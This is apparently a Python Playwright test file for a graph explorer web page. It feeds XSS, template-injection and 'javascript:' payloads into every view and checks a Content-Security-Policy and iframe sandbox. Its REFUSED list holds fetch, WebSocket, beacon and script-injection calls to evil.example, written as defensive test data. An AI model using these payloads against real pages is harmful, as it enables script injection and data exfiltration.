"""Hostile data in every view of the page, and what the page may do at all. The fixture checks that nothing is asked for or complained of."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Page, expect

from kg.evidence import Evidence
from kg.render import inline_frame, render_page
from kg.scene import Place
from kg.standing import STANDINGS
from kg.views import Policy
from tests import scenes

from .test_explorer import download, html

SCRIPT = "</script><script>window.ran = 1</script>"
IMAGE = "<img src=https://evil.example/x onerror=window.ran=2>"
TURNED = "\u202eevil\u2066 <b>bold</b>"
ALL = Policy(standings=STANDINGS, rounds=True)


def hostile_page() -> str:
    """The small scene in which every text that comes from outside tries to be something else than text."""
    m = scenes.small()
    m.scene.names.update(avaria=SCRIPT, borduria=IMAGE, helvia=TURNED, najib="javascript:alert(1)", clerk="{{ 7*7 }}")
    m.scene.aliases.update(avaria=(f"alias {IMAGE}", "__proto__"), helvia=("constructor",))
    m.scene.places.update(
        palace=Place(IMAGE, "geneva"), nowhere=Place(SCRIPT), ankara=Place(TURNED, "", "39.93", "32.86")
    )
    for one in m.scene.gatherings.values():
        one.label = f"{one.label} {SCRIPT}"
        one.processes = (f"process/{IMAGE}",)
        one.claims = [replace(claim, name=IMAGE) for claim in one.claims]
        for key, telling in one.tellings.items():
            one.tellings[key] = replace(
                telling, label=f"{IMAGE} {telling.label}", outcomes=((IMAGE, SCRIPT),), arity=(SCRIPT,), edtf=(SCRIPT,)
            )
    outside = {"publisher": IMAGE, "title": SCRIPT, "url": "javascript:window.ran=3"}
    evidence = Evidence(
        {
            key: replace(passage, sentence=f"{passage.sentence} {SCRIPT} {IMAGE}", **outside)
            for key, passage in m.evidence.passages.items()
        },
        {
            key: replace(statement, claimants=(TURNED, IMAGE), relays=(SCRIPT,), certainty=IMAGE)
            for key, statement in m.evidence.statements.items()
        },
    )
    return render_page(m.scene, evidence, title=f"{SCRIPT} & {IMAGE}", policy=ALL)


def harmless(page: Page) -> None:
    assert page.evaluate("window.ran") is None
    made = "document.querySelectorAll('img, iframe, object, embed, #panel b b, [onerror], a[href^=javascript]').length"
    assert page.evaluate(made) == 0
    assert page.evaluate("document.querySelectorAll('script').length") == 4


@pytest.mark.parametrize("view", ["picture", "table", "timeline", "map", "ledger"])
def test_hostile_words_are_shown_as_words_in_every_view(open_page: Any, view: str) -> None:
    page = open_page(html=hostile_page()).page
    expect(page.locator("h1")).to_have_text(f"{SCRIPT} & {IMAGE}")
    page.evaluate("(view) => diplomaticPage.change({ view })", view)
    for group in page.locator("#facets details").all():
        group.evaluate("(group) => { group.open = true; }")
    expect(page.locator("#facets")).to_contain_text(SCRIPT)
    if view == "table":
        for rows in ("Connections", "Names", "Meetings and rounds", "Claims"):
            page.get_by_role("group", name="Rows").get_by_role("button", name=rows, exact=True).click()
            expect(page.locator("tbody")).to_contain_text(re.compile("<img|<script|<b>bold"))
            harmless(page)
    elif view != "picture":
        expect(page.locator(f"#view-{view}")).to_contain_text(re.compile("<img src=https|</script>"))
    for chosen in ("avaria", "borduria", "helvia", "clerk"):
        page.evaluate("(id) => diplomaticPage.change({ selected: { type: 'node', id } })", chosen)
        harmless(page)
    page.evaluate("diplomaticPage.change({ selected: { type: 'meeting', id: 'meeting/geneva' } })")
    expect(page.locator("#panel blockquote").first).to_contain_text(f"{SCRIPT} {IMAGE}")
    expect(page.locator("#panel a")).to_have_count(0)
    page.fill("#query", "<img")
    expect(page.locator("#hits li").first).to_contain_text("<img")
    harmless(page)


def test_hostile_words_leave_the_page_as_words_in_its_files(open_page: Any) -> None:
    page = open_page(html=hostile_page(), permissions=["clipboard-read", "clipboard-write"]).page
    rows = list(
        csv.DictReader(io.StringIO(download(page, "Connections with sentences").read_text(encoding="utf-8-sig")))
    )
    assert {SCRIPT, IMAGE} <= {row["from"] for row in rows} | {row["to"] for row in rows}
    assert all(f"{SCRIPT} {IMAGE}" in row["sentence"] for row in rows)
    root = ElementTree.fromstring(download(page, "Graph for Gephi").read_bytes())
    assert {SCRIPT, IMAGE} <= {node.get("label") for node in root.iter("{http://gexf.net/1.3}node")}
    assert download(page, "Picture with legend").read_bytes().startswith(b"\x89PNG")
    harmless(page)


def test_the_policy_in_the_file_names_what_the_browser_runs_by_its_hash(open_page: Any) -> None:
    page = open_page(html=html()).page
    policy = page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
    rules: dict[str, list[str]] = {}
    for rule in policy.split(";"):
        name, _, values = rule.strip().partition(" ")
        rules[name] = values.split()
    assert rules["default-src"] == ["'none'"] and rules["base-uri"] == ["'none'"] and rules["form-action"] == ["'none'"]
    assert rules["img-src"] == ["data:", "blob:"]
    # The bodies as the browser has parsed them, not as the file was written.
    for tag, rule in (("script:not([type])", "script-src"), ("style", "style-src")):
        bodies = page.evaluate("(tag) => [...document.querySelectorAll(tag)].map((one) => one.textContent)", tag)
        hashes = [base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() for body in bodies]
        assert rules[rule] == [f"'sha256-{one}'" for one in hashes]
    assert page.evaluate("document.querySelector('meta[http-equiv]').previousElementSibling.matches('[charset]')")


REFUSED = [
    "fetch('https://evil.example/a').catch(() => {})",
    "new WebSocket('wss://evil.example/b')",
    "navigator.sendBeacon('https://evil.example/c', 'x')",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/d' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/e' }))",
    "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/f' }))",
    "new Image().src = 'https://evil.example/g'",
    "document.body.append(Object.assign(document.createElement('div'), { style: 'background: url(https://evil.example/h)' }))",
]


@pytest.mark.parametrize("attempt", REFUSED)
def test_whatever_gets_in_reaches_nobody(open_page: Any, attempt: str) -> None:
    opened = open_page(html=html())
    reached: list[str] = []
    opened.page.context.route(
        "https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort())
    )
    opened.page.evaluate("(attempt) => { try { " + attempt + "; } catch {} }", attempt)
    opened.page.wait_for_timeout(200)
    assert reached == []
    assert opened.complaints and all("Content Security Policy" in one for one in opened.complaints)
    opened.complaints.clear()
    opened.requests.clear()


def test_a_page_in_use_asks_for_nothing(open_page: Any) -> None:
    opened = open_page(html=html())
    page = opened.page
    for view in ("Table", "Timeline", "Map", "Ledger", "Network"):
        page.get_by_role("tab", name=view).click()
    for level in ("Persons", "Delegations", "Principals"):
        page.get_by_role("button", name=level, exact=True).click()
    for drawing in ("participation", "mediation", "who-talks-to-whom"):
        page.select_option("#drawing", drawing)
    for button in page.locator("#facets .switch").all():
        button.evaluate("(button) => { button.click(); button.click(); }")
    for name in ("PNG", "CSV", "GEXF"):
        page.locator("#share summary").click()
        with page.expect_download():
            page.locator(f"#share-{name.lower()}").click()
    assert [url for url in opened.requests if not url.startswith("blob:")] == [page.url.partition("#")[0]]


def test_nothing_is_written_beside_a_notebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    frame = inline_frame(html())
    shown = frame._repr_html_()
    assert list(tmp_path.iterdir()) == []
    assert shown.count("<iframe") == 1 and shown.endswith("</iframe>")
    inner = shown.partition('srcdoc="')[2].removesuffix('"></iframe>')
    assert '"' not in inner and "<" not in inner, "the page stands in the attribute, escaped"
    sandbox = re.search(r'sandbox="([^"]*)"', shown)
    assert sandbox and "allow-same-origin" not in sandbox[1] and "allow-scripts" in sandbox[1]
